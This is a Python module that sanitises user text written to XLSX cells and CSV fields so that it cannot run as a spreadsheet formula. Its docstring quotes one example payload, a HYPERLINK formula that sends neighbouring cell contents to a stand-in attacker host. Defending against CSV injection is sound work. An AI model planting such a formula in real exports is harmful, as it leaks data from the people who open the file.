"""The one way exports write a value into a spreadsheet cell or a CSV field (issue 13 item 1).

User text must arrive in Excel as text, never as a formula: openpyxl stores any string starting
with "=" as a live formula, and Excel/LibreOffice also evaluate "+", "-", "@" and fields starting
with a tab or carriage return when a CSV is opened (OWASP "CSV injection"). A title like
`=HYPERLINK("http://evil.example/?leak="&B2,"ดู")` would otherwise leak the sheet's neighbours
when a reviewer clicks it. Every XLSX and CSV export goes through `cell_set`, `row_append` or
`csv_field`; nothing writes a user's string to a cell directly.
"""

from __future__ import annotations

from collections.abc import Iterable

from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell

# Leading characters a spreadsheet may take as the start of a formula (or that hide one).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def _clean(text: str) -> str:
    # Control characters other than tab/newline cannot be stored in XLSX (openpyxl raises):
    # drop them rather than answer 500 for a title pasted from a PDF.
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def _as_text(cell, value):
    """Assign value to cell; a string is stored as a string cell whatever it starts with."""
    if isinstance(value, str):
        value = _clean(value)
        cell.value = value
        cell.data_type = "s"  # openpyxl made it "f" (formula) or "e" (error code) from the text
        if is_formula_like(value):
            # Excel keeps a quote-prefixed cell as text even after someone edits it.
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def cell_set(sheet, row: int, column: int, value):
    """Write one value into a normal (not write-only) worksheet; returns the cell for styling."""
    return _as_text(sheet.cell(row=row, column=column), value)


def _appendable(sheet, value):
    """What to hand sheet.append: plain text openpyxl already stores as text passes as is (fast);
    text it would turn into a formula or an error value goes as a ready-made text cell."""
    if not isinstance(value, str):
        return value
    value = _clean(value)
    if is_formula_like(value) or value in ERROR_CODES:
        return _as_text(Cell(sheet, row=1, column=1), value)
    return value


def row_append(sheet, values: Iterable) -> None:
    """Append a row to a normal or write-only worksheet, strings stored as text."""
    # Both kinds of sheet accept ready-made cells in append() (openpyxl's documented way to style
    # write-only cells).
    sheet.append([_appendable(sheet, v) for v in values])


def csv_field(value) -> str:
    """A CSV field that opens as text: a leading formula character gets a single quote before it."""
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, str) and is_formula_like(text):
        return "'" + text
    return text
